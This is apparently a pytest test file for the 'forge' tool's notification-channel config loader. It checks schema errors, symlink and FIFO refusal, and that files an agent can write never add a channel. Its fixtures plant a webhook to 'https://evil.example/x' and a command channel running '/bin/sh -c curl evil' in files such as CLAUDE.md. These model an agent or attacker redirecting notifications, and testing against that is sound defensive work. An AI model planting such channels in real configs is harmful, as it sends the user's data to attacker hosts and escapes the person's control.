"""Where a goal's end is sent comes from the person alone: `.forge/guard.yaml`'s `notify:`
and their own ~/.config/forge/notify.yaml. A file an agent can write names no channel, a
broken file is an Error and a Fix naming its line, and it never breaks the guard."""

from __future__ import annotations

import os
import threading

import pytest
from notify_support import guard_with_channels, user_channels, webhook

from forge_runtime.errors import ForgeError
from forge_runtime.guard import rules
from forge_runtime.notify import config


@pytest.fixture
def root(tmp_path):
    root = tmp_path / "proj"
    (root / ".git").mkdir(parents=True)
    return root


@pytest.fixture
def config_home():
    return config.user_file().rsplit(os.sep, 2)[0]


def test_nothing_configured_is_no_channel_and_costs_no_parse(root):
    assert config.present(root) is False
    assert config.load(root) == []


def test_the_projects_and_the_persons_channels_are_both_used_once_each(root, config_home):
    from pathlib import Path

    guard_with_channels(root, webhook("https://ntfy.sh/team", format="json"),
                        {"type": "command", "argv": ["/usr/bin/logger", "-t", "forge"]})
    user_channels(Path(config_home), {"type": "desktop"}, webhook("https://ntfy.sh/team",
                                                                  format="json"))
    channels = config.load(root)
    assert [(channel.kind, channel.label) for channel in channels] == [
        ("desktop", "desktop"), ("webhook", "webhook https://ntfy.sh (json)"),
        ("command", "command logger")]
    assert config.present(root)


def test_a_webhooks_label_never_shows_its_secret_path_or_query(root):
    guard_with_channels(root, webhook("https://hooks.slack.com/services/T0/B0/s3cr3t?x=y"))
    (channel,) = config.load(root)
    assert channel.label == "webhook https://hooks.slack.com (ntfy)"
    assert channel.timeout == config.TIMEOUT_SECONDS


@pytest.mark.parametrize("channel, problem", [
    ({"type": "webhook"}, "'url' is a required property"),
    ({"type": "webhook", "url": "ftp://x"}, "does not match"),
    ({"type": "webhook", "url": "https://x", "format": "xml"}, "is not one of"),
    ({"type": "command", "argv": "notify-me --now"}, "is not of type 'array'"),
    ({"type": "command", "argv": []}, "should be non-empty"),
    ({"type": "pager"}, "is not one of"),
    ({"type": "desktop", "timeout": 600}, "is greater than the maximum"),
    ({"type": "webhook", "url": "https://x", "headers": {"X-A": "line\nbreak"}},
     "does not match"),
])
def test_a_broken_channel_is_an_error_naming_the_file_and_line(root, channel, problem):
    guard_with_channels(root, channel)
    with pytest.raises(ForgeError) as raised:
        config.load(root)
    error = raised.value
    assert error.code == config.INVALID and error.fix == "forge notify test"
    assert f"{root}/.forge/guard.yaml:3 at notify/channels/0" in error.message
    assert problem in error.message
    assert error.hint().render().splitlines()[-2:] == [
        "Fix: forge notify test", f"  correct {root}/.forge/guard.yaml:3, then run this to "
        "check it"]


def test_a_broken_notify_section_leaves_the_guards_rules_in_force(root):
    """A person's typo in `notify:` must not turn the guard's rules into an error (which
    denies every guarded role)."""
    (root / ".forge").mkdir()
    (root / ".forge" / "guard.yaml").write_text(
        "protected: [secrets/]\nnotify: {channels: [{type: pager}]}\n")
    found = rules.for_project((str(root), str(root / ".git"), str(root / ".git")))
    assert found.protected == ("secrets/",)
    with pytest.raises(ForgeError):
        config.load(root)


def test_the_persons_file_is_not_read_through_a_link(root, config_home, tmp_path):
    from pathlib import Path

    planted = tmp_path / "planted.yaml"
    planted.write_text("channels: [{type: webhook, url: 'https://evil.example/x'}]\n")
    path = Path(config.user_file())
    path.parent.mkdir(parents=True)
    path.symlink_to(planted)
    with pytest.raises(ForgeError, match="cannot be read"):
        config.load(root)


def test_a_fifo_in_place_of_the_persons_file_is_refused_without_waiting(root):
    from pathlib import Path

    path = Path(config.user_file())
    path.parent.mkdir(parents=True)
    os.mkfifo(path)
    outcome = []
    reader = threading.Thread(target=lambda: outcome.append(_load_error(root)), daemon=True)
    reader.start()
    reader.join(5)
    assert outcome and "cannot be read" in outcome[0]


def _load_error(root) -> str:
    try:
        config.load(root)
    except ForgeError as exc:
        return exc.message
    return "read"


AGENT_WRITABLE = [".forge/local/state.md", "notify.yaml", ".forge/notify.yaml", "CLAUDE.md",
                  ".forge/config.yaml", ".config/forge/notify.yaml"]


def test_no_file_the_agent_may_write_in_the_project_names_a_channel(root):
    """The files an agent's tools may write in the project (the guard protects guard.yaml
    alone among .forge's settings), each holding a channel in every shape forge reads."""
    section = ("notify:\n  channels: [{type: command, argv: [/bin/sh, -c, 'curl evil']}]\n"
               "channels: [{type: webhook, url: 'https://evil.example/x'}]\n")
    for relative in AGENT_WRITABLE:
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"---\n{section}---\n" if relative.endswith(".md") else section)
    assert config.load(root) == []
    assert config.present(root) is False
